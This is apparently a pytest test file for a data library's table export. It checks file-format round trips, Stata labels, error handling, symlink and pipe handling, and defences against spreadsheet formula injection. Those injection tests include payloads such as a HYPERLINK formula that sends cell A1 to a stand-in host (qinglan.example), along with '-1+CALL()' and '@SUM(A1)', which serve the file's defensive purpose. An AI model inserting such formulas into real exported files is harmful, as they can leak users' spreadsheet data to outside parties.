"""Tables written for other programs."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pandas as pd
import pytest

import xclib as xc
from xclib.data.exports import safe_cell
from xclib.errors import XclibError
from xclib.html import downloads
from xclib.reading import report as reader

XICHENG = "cn-110102-plan-2024"


@pytest.mark.parametrize("ending", ["csv", "parquet", "xlsx", "dta", "json", "jsonl"])
def test_round_trip(tmp_path: Path, ending: str) -> None:
    frame = xc.figures(XICHENG)
    path = xc.export(frame, tmp_path / f"figures.{ending}")
    read = {
        "csv": pd.read_csv,
        "parquet": pd.read_parquet,
        "xlsx": pd.read_excel,
        "dta": pd.read_stata,
        "json": pd.read_json,
        "jsonl": lambda p: pd.read_json(p, lines=True),
    }[ending](path)
    assert len(read) == 314
    assert read["value"].astype(float).tolist() == pytest.approx(frame["value"].tolist())
    assert read["label"].tolist() == frame["label"].tolist()
    assert list(tmp_path.iterdir()) == [path], "nothing half-written left behind"


def test_stata_has_labels(tmp_path: Path) -> None:
    path = xc.export(xc.figures(XICHENG), tmp_path / "x.dta")
    with pd.read_stata(path, iterator=True) as reader:
        assert reader.variable_labels()["measure"] == "level, growth, change, rank"


def test_a_formula_of_a_report_is_text(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = xc.export(pd.DataFrame({"label": ['=HYPERLINK("https://evil.example","x")']}), tmp_path / "x.xlsx")
    cell = load_workbook(path)["figures"]["A2"]
    assert cell.data_type == "s"


FORMULA = '=HYPERLINK("http://qinglan.example/?"&A1)'


@pytest.mark.parametrize("start", ["", "浓度;", "浓度; ", "浓度\t", "浓度\n", '浓度;"', "浓度|", "浓度;-3.1;"])
@pytest.mark.parametrize("run", [FORMULA, "+1+1", "-1+CALL()", "@SUM(A1)", "＝1+1"])
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_text_stays_text_whatever_separates_cells(start: str, run: str, separator: str) -> None:
    """A CSV file is opened with the separator of the reader's locale, too."""
    body = downloads.to_csv(["label", "value"], [[f"{start}{run};x", -3.1]]).decode("utf-8-sig")
    raw = reader.to_csv("figures", [{"label": f"{start}{run};x", "number": "-3.1", "suffix": f"{start}{run}"}])
    for text in (body, raw if run != "+1+1" else body):
        cells = [cell.strip(' "') for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]
        assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "＝") and cell not in ("-3.1", "-")] == []


@pytest.mark.parametrize("cell", ["-3.4%", "工业;-3.4%", "浓度；=", "a;b", "-inf", "=", "5左右;-6"])
def test_numbers_and_words_keep_their_form(cell: str) -> None:
    assert safe_cell(cell) == cell
    assert safe_cell(safe_cell(f"x;{FORMULA}")) == safe_cell(f"x;{FORMULA}"), "once is enough"


@pytest.mark.parametrize(
    ("name", "message"),
    [("x.doc", "cannot write '.doc'"), ("x", "a file without extension"), ("no/such/x.csv", "no such folder")],
)
def test_what_cannot_be_written(tmp_path: Path, name: str, message: str) -> None:
    with pytest.raises(XclibError, match=message):
        xc.export(pd.DataFrame({"a": [1]}), tmp_path / name)
    assert not list(tmp_path.iterdir())


def test_a_head_is_text_too(tmp_path: Path) -> None:
    import openpyxl

    book = openpyxl.load_workbook(xc.export(pd.DataFrame({"=1+1": ["=2+2\ufffe"]}), tmp_path / "x.xlsx"))
    assert [(cell.data_type, cell.value) for row in book.active.iter_rows() for cell in row] == [("s", "=1+1"), ("s", "=2+2")]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="there are no pipes in folders here")
def test_links_are_followed_and_pipes_left_alone(tmp_path: Path) -> None:
    """What a link leads to is written; a pipe or a device, which serves others, is not replaced by a file."""
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "pipe.csv").symlink_to(tmp_path / "pipe")
    (tmp_path / "link.csv").symlink_to(tmp_path / "kept.csv")
    frame = pd.DataFrame({"a": [1]})
    with pytest.raises(XclibError, match="cannot write: is no regular file"):
        xc.export(frame, tmp_path / "pipe.csv")
    assert (tmp_path / "pipe").is_fifo()
    xc.export(frame, tmp_path / "link.csv")
    assert (tmp_path / "link.csv").is_symlink()
    assert (tmp_path / "kept.csv").read_text(encoding="utf-8") == "a\n1\n"
